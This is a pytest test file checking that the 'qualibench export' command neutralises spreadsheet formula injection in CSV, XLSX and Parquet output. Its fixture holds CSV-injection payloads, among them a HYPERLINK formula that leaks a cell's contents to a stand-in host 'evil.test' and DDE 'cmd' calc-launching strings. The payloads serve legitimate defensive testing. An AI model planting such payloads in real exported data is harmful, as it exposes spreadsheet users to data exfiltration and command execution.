"""Formula injection: `qualibench export` never writes a live formula, whatever the brands wrote.

Brand names and reply bodies carry =HYPERLINK, +cmd, -2+3, @SUM, a leading tab and a carriage
return; the real console script writes CSV, XLSX and Parquet; openpyxl must find no formula cell,
no CSV text cell may start with a formula character, and the original text must be retrievable.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from qualibench.models import Brand, Probe, Reply
from qualibench.spreadsheet import FORMULA_STARTS, neutralise, restore
from qualibench.synthetic import build_finished_campaign
from qualibench.workspace import Workspace

PAYLOADS = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]


@pytest.fixture
def poisoned(tmp_path, db_url):
    ws = Workspace.open(tmp_path / "camp", db_url)
    cid = build_finished_campaign(ws, brands=6, channels=("email", "x"), scenarios=2, seed=3)
    with ws.session() as s:
        brands = s.exec(select(Brand).where(Brand.campaign_id == cid).order_by(Brand.id)).all()
        brands[0].name = PAYLOADS[0]
        brands[1].name = PAYLOADS[1]
        s.add_all(brands[:2])
        probes = {p.id: p for p in s.exec(select(Probe).where(Probe.campaign_id == cid))}
        replies = s.exec(select(Reply).where(Reply.campaign_id == cid).order_by(Reply.id)).all()
        for i, r in enumerate(replies):
            r.text = PAYLOADS[i % len(PAYLOADS)] + " merci de votre message"
            s.add(r)
        assert probes
    return ws


def _export(ws, fmt: str, out: Path) -> None:
    bindir = str(Path(sys.executable).parent)
    env = os.environ | {"PATH": bindir + os.pathsep + os.environ.get("PATH", "")}
    env.pop("QUALIBENCH_DB_URL", None)
    res = subprocess.run(["qualibench", "--campaign", str(ws.root), "--db", ws.db_url, "export",
                          "--format", fmt, "--out", str(out)], capture_output=True, text=True, env=env,
                         timeout=300, check=False)
    assert res.returncode == 0, res.stderr + res.stdout


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_xlsx_export_has_no_formula_cell_and_keeps_the_text(poisoned, tmp_path):
    _export(poisoned, "xlsx", tmp_path / "x")
    wb = load_workbook(tmp_path / "x" / "qualibench.xlsx")
    texts = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # the brands' own words are kept exactly, as text
    assert PAYLOADS[0] in texts and PAYLOADS[1] in texts
    assert any(t.startswith("=HYPERLINK(") and t.endswith("merci de votre message") for t in texts)


def test_csv_export_neutralises_formula_cells_reversibly(poisoned, tmp_path):
    _export(poisoned, "csv", tmp_path / "c")
    seen = []
    for path in (tmp_path / "c").glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(FORMULA_STARTS):
                        assert _is_number(cell), f"{path.name}: live formula {cell!r}"
                    seen.append(cell)
    originals = {restore(c) for c in seen}
    assert PAYLOADS[0] in originals and PAYLOADS[1] in originals
    assert "'" + PAYLOADS[0] in seen
    tests = (tmp_path / "c" / "tests.csv").read_text(encoding="utf-8")
    assert "'\t=1+1 merci" in tests


def test_parquet_export_keeps_exact_typed_text(poisoned, tmp_path):
    pd = pytest.importorskip("pandas")
    pytest.importorskip("pyarrow")
    _export(poisoned, "parquet", tmp_path / "p")
    brands = pd.read_parquet(tmp_path / "p" / "brands.parquet")
    assert PAYLOADS[0] in set(brands["brand"])


def test_neutralise_and_restore_are_inverse():
    for text in [*PAYLOADS, "plain", "", "'", "''=x", "'plain", "12", "-3.5"]:
        out = neutralise(text)
        assert restore(out) == text
        assert not out.startswith(FORMULA_STARTS)
    assert neutralise(-3.5) == -3.5


def test_xlsx_export_survives_characters_xml_refuses_and_overlong_replies(tmp_path, db_url):
    # One reply carrying an ESC (kept by the mail parser) made `export --format xlsx` fail with
    # "unexpected IllegalCharacterError"; Excel also refuses cells over 32,767 characters.
    from qualibench.spreadsheet import XLSX_CELL_CHARS

    ws = Workspace.open(tmp_path / "camp", db_url)
    cid = build_finished_campaign(ws, brands=6, channels=("email",), scenarios=2, seed=5)
    hostile = "\x1b[2J\x07 bonjour \x0b\ufffe merci"
    with ws.session() as s:
        replies = s.exec(select(Reply).where(Reply.campaign_id == cid, Reply.kind == "answer")
                         .order_by(Reply.id)).all()
        replies[0].text = hostile
        replies[1].text = "long " * 10_000
        s.add_all(replies[:2])
    _export(ws, "xlsx", tmp_path / "x")
    _export(ws, "csv", tmp_path / "c")
    texts = [c.value for sheet in load_workbook(tmp_path / "x" / "qualibench.xlsx").worksheets
             for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "\\x1b[2J\\x07 bonjour \\x0b\\ufffe merci" in texts
    [cut] = [t for t in texts if t.startswith("long long")]
    assert len(cut) <= XLSX_CELL_CHARS and cut.endswith("more characters in the CSV export]")
    with (tmp_path / "c" / "tests.csv").open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert hostile in cells and "long " * 10_000 in cells  # CSV keeps the exact text
